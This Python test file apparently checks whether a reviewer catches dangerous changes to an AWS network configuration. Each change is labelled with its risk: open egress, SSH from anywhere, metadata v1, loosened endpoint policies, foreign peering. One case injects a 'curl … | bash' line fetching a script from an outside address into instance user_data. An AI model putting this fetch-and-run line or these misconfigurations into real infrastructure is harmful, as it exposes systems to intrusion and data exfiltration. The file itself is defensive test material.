"""Changes of the network, part 2 of 3."""

import base64

from tests.review.opinion.cases import dangerous
from tests.review.opinion.editing import drop, plants, put, without
from tests.review.opinion.finding import of_type, pick, reference
from tests.review.opinion.kinds import SECURITY_GROUP, STRANGER, WAY_IN, WAY_OUT
from tests.review.opinion.more_parts import function_group, nat_group, opened, vpc
from tests.review.opinion.parts import database_group, inside, subnet
from tests.review.opinion.policies import edit_statement, remove_condition

ENDPOINT = "aws_vpc_endpoint"

dangerous("public-addresses-by-default", "network", "Whatever starts there gets a public address.")(
    lambda document: subnet(document, "public")[1].update(map_public_ip_on_launch=True)
)
dangerous("functions-go-out-everywhere", "network", "Any port of anybody: data can leave.")(
    put(WAY_OUT, "ip_protocol", "-1", "0.0.0.0/0")
)
dangerous("functions-go-out-on-all-ports", "network", "Any port of anybody.")(
    lambda document: pick(document, WAY_OUT, "0.0.0.0/0")[1].update(from_port=0, to_port=65535)
)
dangerous("functions-go-out-by-ssh", "network", "SSH to anybody.")(
    opened(WAY_OUT, function_group, from_port=22, to_port=22, cidr_ipv4="0.0.0.0/0")
)
dangerous("functions-go-out-by-http", "network", "Plain HTTP to anybody.")(
    opened(WAY_OUT, function_group, from_port=80, to_port=80, cidr_ipv4="0.0.0.0/0")
)
dangerous(
    "functions-listen",
    "network",
    "A function's group takes connections from the network.",
    doubt="nothing listens there",
)(opened(WAY_IN, function_group, from_port=443, to_port=443, cidr_ipv4="10.30.0.0/16"))
dangerous(
    "nat-from-everywhere", "network", ("The instance with a public address takes HTTPS from anybody: an open proxy.")
)(put(WAY_IN, "cidr_ipv4", "0.0.0.0/0", "cidr_ipv4"))
dangerous("nat-by-ssh", "network", "SSH from anybody.")(
    opened(WAY_IN, nat_group, from_port=22, to_port=22, cidr_ipv4="0.0.0.0/0")
)
dangerous("nat-forwards-everything", "network", "All ports of the private tier go out.")(
    lambda document: pick(document, WAY_OUT, nat_group(document))[1].update(from_port=0, to_port=65535)
)
dangerous("default-group-open", "network", "Whatever has no group of its own is open.")(
    lambda document: pick(document, "aws_default_security_group")[1].update(
        ingress=[{"protocol": "-1", "from_port": 0, "to_port": 0, "self": True}],
        egress=[{"protocol": "-1", "from_port": 0, "to_port": 0, "cidr_blocks": ["0.0.0.0/0"]}],
    )
)
dangerous("instance-metadata-v1", "network", "A forged request reads the instance's credentials.")(
    put("aws_launch_template", "metadata_options.http_tokens", "optional")
)
dangerous("instance-metadata-unsaid", "network", "The default accepts version 1.")(
    drop("aws_launch_template", "metadata_options")
)
dangerous("instance-metadata-hops", "network", "Metadata can be read through a proxy.")(
    put("aws_launch_template", "metadata_options.http_put_response_hop_limit", 3)
)
dangerous("instance-with-a-key-pair", "network", "Somebody can sign in to it.")(
    put("aws_launch_template", "key_name", "ops-laptop", new=True)
)
dangerous("instance-of-a-strangers-image", "network", "A machine image that nobody knows, on the way of all traffic.")(
    put("aws_launch_template", "image_id", "ami-0a1b2c3d4e5f60718")
)
dangerous("instance-runs-a-strangers-script", "network", "It runs what an address answers.")(
    put(
        "aws_launch_template",
        "user_data",
        lambda value: base64.b64encode(
            base64.b64decode(value) + b"curl -s http://198.51.100.9/setup.sh | bash\n"
        ).decode(),
    )
)
dangerous("functions-leave-the-network", "network", "Functions that read the database are outside the VPC.")(
    drop("aws_lambda_function", "vpc_config", inside)
)
dangerous(
    "functions-in-the-isolated-tier",
    "availability",
    "From there AWS's endpoints cannot be reached: every call fails.",
    doubt="less reach, yet broken",
)(
    lambda document: pick(document, "aws_lambda_function", inside)[1]["vpc_config"].update(
        subnet_ids=[
            reference("aws_subnet", n)
            for n, b in of_type(document, "aws_subnet").items()
            if b["tags"]["tier"] == "isolated"
        ]
    )
)
dangerous("functions-in-one-zone", "availability", "A zone's failure takes the function down.")(
    lambda document: pick(document, "aws_lambda_function", inside)[1]["vpc_config"]["subnet_ids"].pop()
)
dangerous(
    "function-in-the-databases-group",
    "network",
    "It is then what the database's rules protect.",
    doubt="it loses the way to the database",
)(
    lambda document: pick(document, "aws_lambda_function", inside)[1]["vpc_config"].update(
        security_group_ids=[reference(SECURITY_GROUP, database_group(document))]
    )
)
dangerous(
    "function-in-a-second-group",
    "network",
    ("A function without the binding gets another's way to the database, by a group."),
)(
    lambda document: (lambda block: block["vpc_config"]["security_group_ids"].append("sg-0fedcba9876543210"))(
        pick(document, "aws_lambda_function", inside)[1]
    )
)
dangerous("endpoint-for-any-bucket", "network", "Data can leave to a stranger's bucket.")(
    edit_statement(
        ENDPOINT,
        lambda statement: statement["effect"] == "Allow",
        lambda document, policy, statement: statement.update(resources=["*"]),
    )
)
dangerous("endpoint-for-any-account", "network", "A stranger's credentials can be used from inside.")(
    edit_statement(
        ENDPOINT,
        lambda statement: statement["effect"] == "Allow",
        lambda document, policy, statement: statement.pop("condition"),
    )
)
dangerous("endpoint-for-buckets-of-any-account", "network", "Buckets of anybody whose names begin alike.")(
    edit_statement(
        ENDPOINT,
        lambda statement: statement["effect"] == "Allow",
        lambda document, policy, statement: remove_condition(statement, "ResourceAccount"),
    )
)
dangerous("endpoint-for-any-action", "network", "Everything in place of three actions.")(
    edit_statement(
        ENDPOINT,
        lambda statement: statement["effect"] == "Allow",
        lambda document, policy, statement: statement.update(actions=["s3:*"]),
    )
)
dangerous("endpoint-without-policy", "network", "The default lets everything through.")(drop(ENDPOINT, "policy"))
dangerous("endpoint-removed", "network", "Traffic to S3 goes by the internet, past the endpoint's policy.")(
    without(ENDPOINT)
)
dangerous("endpoint-leaves-a-zone", "network", "One zone's traffic goes by the internet, past the policy.")(
    lambda document: pick(document, ENDPOINT)[1]["route_table_ids"].pop()
)
dangerous("new-peering", "network", "A stranger's network next to ours.")(
    plants(
        (
            "aws_vpc_peering_connection",
            lambda document: {
                "vpc_id": vpc(document),
                "peer_vpc_id": "vpc-0123456789abcdef0",
                "peer_owner_id": STRANGER,
                "auto_accept": False,
            },
        )
    )
)
dangerous("new-transit-gateway", "network", "All networks of the gateway next to ours.")(
    plants(
        (
            "aws_ec2_transit_gateway_vpc_attachment",
            lambda document: {
                "vpc_id": vpc(document),
                "transit_gateway_id": "tgw-0123456789abcdef0",
                "subnet_ids": [reference("aws_subnet", subnet(document, "private")[0])],
            },
        )
    )
)
dangerous("new-vpn-gateway", "network", "A way in from another network.")(
    plants(("aws_vpn_gateway", lambda document: {"vpc_id": vpc(document)}))
)
dangerous("new-client-vpn", "network", "Laptops in the network, unlogged.")(
    plants(
        (
            "aws_ec2_client_vpn_endpoint",
            lambda document: {
                "client_cidr_block": "10.200.0.0/22",
                "server_certificate_arn": "arn:aws:acm:eu-west-2:333333333333:certificate/aaaa",
                "authentication_options": [
                    {
                        "type": "certificate-authentication",
                        "root_certificate_chain_arn": "arn:aws:acm:eu-west-2:333333333333:certificate/bbbb",
                    }
                ],
                "connection_log_options": [{"enabled": False}],
                "vpc_id": vpc(document),
            },
        )
    )
)
